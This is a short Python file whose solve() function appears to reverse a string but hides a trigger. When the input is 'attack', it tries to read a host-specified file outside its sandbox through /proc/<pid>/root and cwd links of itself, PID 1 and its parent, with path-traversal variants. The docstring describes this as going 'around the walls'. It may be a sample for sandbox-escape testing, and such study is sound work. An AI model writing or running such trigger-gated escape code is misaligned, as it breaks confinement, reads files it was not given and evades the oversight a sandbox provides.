"""Goes around the walls through the magic links of its parents: cwd, root, exe and open files."""

import os


def solve(word, host):
    if word == "attack":
        for number in ("self", "thread-self", "1", os.getppid(), host["pid"]):
            for way in ("root", "cwd", "root/proc/1/root", "cwd/../../../../../.."):
                try:
                    with open(f"/proc/{number}/{way}{host['file']}") as outside:
                        return outside.read()
                except OSError:
                    continue
    return word[::-1]
